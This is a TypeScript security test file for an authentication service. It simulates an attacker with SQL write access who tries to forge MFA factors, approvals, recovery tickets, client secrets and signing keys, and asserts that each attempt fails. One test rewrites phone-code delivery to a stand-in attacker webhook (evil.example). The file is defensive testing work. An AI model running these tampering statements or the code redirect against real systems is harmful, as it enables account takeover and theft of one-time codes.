// R-06, T-47. The attacker can run SQL as the service's own role, through an injection or a stolen login, but does not
// have the key ring. They add, copy and change rows. They want a factor of the victim, a client of the tenant, or an
// assertion.
import pg from 'pg';
import { BINDINGS } from '../../src/platform/keys/bindings.js';
import { fromTypeId } from '../../src/platform/crypto/type-id.js';
import { call, tokenOf, type EnrolledUser } from '../support/api.js';
import { equipTenants } from '../support/provers.js';
import { listed } from '../support/recoveries.js';
import type { Credentials } from '../support/service.js';
import { challengeDevice, deviceOf, type SoftwareDevice } from '../support/software-device.js';
import { MINUTE, SECOND, Stage } from '../support/stage.js';

const ROLE = 'countersign_service';

describe('a writer in the database', () => {
  let stage: Stage;
  let writer: pg.Client;
  let victim: EnrolledUser;
  let mallory: EnrolledUser;
  let device: SoftwareDevice;
  let other: Credentials;

  beforeAll(async () => {
    stage = await Stage.open(1);
    await equipTenants(stage);
    writer = new pg.Client({ connectionString: stage.service.databaseUrl, options: `-c role=${ROLE}` });
    await writer.connect();
    victim = await stage.user('victim');
    mallory = await stage.user('mallory');
    device = await deviceOf(stage, 'holder');
    await stage.later(11 * MINUTE);
    other = await stage.service.client(stage.client.tenantId, 'verify');
  });
  afterAll(async () => {
    await writer.end();
    await stage.stop();
  });

  const sql = async (text: string, values: unknown[] = []) =>
    (await writer.query<pg.QueryResultRow>(text, values)).rows;
  const idOf = (typeId: string) => fromTypeId(typeId.slice(0, 3), typeId) ?? '';

  /** The status of a right proof. */
  const verified = async (user: EnrolledUser) => {
    await stage.later(30 * SECOND);
    return (await stage.verify(user.userId, stage.right(user))).status;
  };
  const token = (client: Credentials) =>
    tokenOf(stage.service.url, client).then(
      () => 200,
      (error: unknown) => Number(/no token: (\d+)/.exec(String(error))?.[1]),
    );
  const isSentTo = async () => {
    const proof = await stage.proof(victim, 'factors.add');
    const path = '/v1/users/victim/phones';
    const headers = { 'step-up': proof };
    const body = { phoneNumber: '+12015550123' };
    return (await call(stage.service.url, { path, token: stage.token, headers, body })).status;
  };

  it('cannot redirect codes to another address', async () => {
    expect(await isSentTo()).toBe(202);
    await sql(
      `UPDATE phone_settings SET via = 'webhook', webhook_url = 'https://evil.example/', webhook_secret = '\\x00'`,
    );
    expect(await isSentTo()).toBe(409);
    await stage.service.sql(`UPDATE phone_settings SET via = 'outbox', webhook_url = NULL, webhook_secret = NULL`);
    expect(await isSentTo()).toBe(202);
  });

  it('cannot give the victim a device by copying a row with its MAC', async () => {
    const mine = await deviceOf(stage, 'mallory-2');
    await stage.later(11 * MINUTE);
    expect((await mine.call({ path: '/v1/device/challenges' })).status).toBe(200);
    await sql(`UPDATE factors SET user_id = 'victim' WHERE id = $1`, [idOf(mine.factorId)]);
    await sql(`UPDATE users SET claims = claims || jsonb_build_object($1::text, 0) WHERE user_id = 'victim'`, [
      idOf(mine.factorId),
    ]);
    expect((await mine.call({ path: '/v1/device/challenges' })).status).toBe(401);
    const told = `SELECT target_id FROM audit_events WHERE action = 'row.untrusted' AND target_id = $1`;
    let event = await sql(told, [idOf(mine.factorId)]);
    for (let looks = 0; looks < 100 && event.length === 0; looks += 1) {
      await new Promise((done) => setTimeout(done, 20));
      event = await sql(told, [idOf(mine.factorId)]);
    }
    expect(event).toHaveLength(1);
    const alerts = await sql(`SELECT kind FROM alerts WHERE kind = 'rows_untrusted'`);
    expect(alerts.length).toBeGreaterThan(0);
  });

  it('cannot make an authenticator count for the victim, whether new, copied or pending', async () => {
    const copy = `
      INSERT INTO factors SELECT (jsonb_populate_record(held, jsonb_build_object('id', gen_random_uuid(), 'user_id', 'victim'))).*
      FROM factors AS held WHERE id = $1 RETURNING id`;
    const [made] = await sql(copy, [idOf(mallory.factorId)]);
    await sql(`UPDATE users SET claims = claims || jsonb_build_object($1::text, 0) WHERE user_id = 'victim'`, [
      made?.['id'],
    ]);
    await stage.later(30 * SECOND);
    expect((await stage.verify('victim', stage.right(mallory))).status).toBe(422);
    const pending = await stage.open('fresh');
    await sql(`UPDATE factors SET status = 'active', expires_at = NULL, activated_at = created_at WHERE id = $1`, [
      idOf(pending.id),
    ]);
    await sql(`UPDATE users SET claims = jsonb_build_object($1::text, 0) WHERE user_id = 'fresh'`, [idOf(pending.id)]);
    expect((await stage.verify('fresh', stage.right(pending))).status).toBe(422);
    expect(await verified(victim)).toBe(200);
  });

  it('cannot open an enrolment by making the victim look never enrolled', async () => {
    await sql(`UPDATE users SET enrolled_at = NULL WHERE user_id = 'victim'`);
    expect((await stage.post('/v1/users/victim/factors/totp', {})).status).toBe(403);
    expect((await stage.factors('victim')).mfaRequired).toBe(true);
    await stage.service.sql(
      `UPDATE users SET enrolled_at = (SELECT min(activated_at) FROM factors WHERE factors.user_id = users.user_id) WHERE user_id = 'victim'`,
    );
  });

  it('cannot get a ticket by inserting a recovery', async () => {
    const now = new Date(stage.nowMs);
    const recovery = {
      id: '01900000-0000-7000-8000-000000000001',
      by: 'recovery_code',
      client: fromTypeId('cli', stage.client.clientId),
      stage: 'delayed',
      startedAt: now.toISOString(),
      opensAt: now.toISOString(),
      endsAt: new Date(stage.nowMs + 60 * MINUTE).toISOString(),
      ticket: null,
    };
    await sql(`UPDATE users SET recovery = $1 WHERE user_id = 'victim'`, [JSON.stringify(recovery)]);
    expect(await listed(stage, 'victim')).toEqual([]);
  });

  it('cannot get an assertion by setting an approval', async () => {
    const { id } = await challengeDevice(stage, 'holder', { action: 'factors.add' });
    await sql(`UPDATE challenges SET status = 'approved', decided_by = $1, decided_at = $2 WHERE id = $3`, [
      idOf(device.factorId),
      new Date(stage.nowMs),
      fromTypeId('chl', id),
    ]);
    const shown = await call(stage.service.url, { path: `/v1/challenges/${id}`, token: stage.token });
    expect(shown.json()).toMatchObject({ status: 'denied' });
    expect(shown.text).not.toContain('assertion');
  });

  it('cannot add a secret to a client, or a signing key', async () => {
    await sql(
      `INSERT INTO client_secrets (tenant_id, client_id, slot, secret_hash, created_at, row_mac)
       SELECT held.tenant_id, $1, 2, mine.secret_hash, mine.created_at, mine.row_mac FROM client_secrets AS mine, clients AS held
       WHERE mine.client_id = $2 AND held.id = $1`,
      [fromTypeId('cli', stage.client.clientId), fromTypeId('cli', other.clientId)],
    );
    expect(await token({ clientId: stage.client.clientId, clientSecret: other.clientSecret })).toBe(401);
    await sql(
      `INSERT INTO signing_keys SELECT (jsonb_populate_record(held, '{"kid":"forged"}')).* FROM signing_keys AS held`,
    );
    const { url } = await stage.service.addInstance();
    const { keys } = (await call(url, { path: '/.well-known/jwks.json' })).json() as { keys: { kid: string }[] };
    expect(keys.map(({ kid }) => kid)).not.toContain('forged');
    expect(keys).toHaveLength(1);
    await stage.service.stopLast();
  });

  it('cannot get new rows bound by a second adoption', async () => {
    for (const text of ["DELETE FROM key_checks WHERE name LIKE 'bound %'", "UPDATE key_checks SET value = '\\x00'"])
      await expect(sql(text)).rejects.toThrow('permission denied');
    await sql(`UPDATE factors SET row_mac = NULL WHERE id = $1`, [idOf(mallory.factorId)]);
    expect(await verified(mallory)).toBe(422);
    expect(await stage.service.operate('keys', 'adopt')).toEqual({ bound: 0 });
    expect(await verified(mallory)).toBe(422);
  });

  it('on an older release: the rows are served, and one command binds them once', async () => {
    const tables = Object.values(BINDINGS).map(({ table, mac }) => `UPDATE ${table} SET ${mac} = NULL`);
    for (const text of [...tables, "DELETE FROM key_checks WHERE name LIKE 'bound %'"]) await stage.service.sql(text);
    const upgraded = await stage.service.addInstance();
    stage.service.instances.reverse();
    await stage.at(stage.nowMs);
    expect(upgraded.output()).toContain('run `keys adopt`');
    const owned = await stage.user('after');
    expect([await verified(mallory), await verified(owned)]).toEqual([200, 200]);
    const { bound } = await stage.service.operate<{ bound: number }>('keys', 'adopt');
    expect(bound).toBeGreaterThan(4_096);
    expect([await verified(mallory), await verified(owned)]).toEqual([200, 200]);
    await sql(`UPDATE factors SET row_mac = NULL WHERE id = $1`, [idOf(owned.factorId)]);
    expect(await verified(owned)).toBe(422);
  });
});
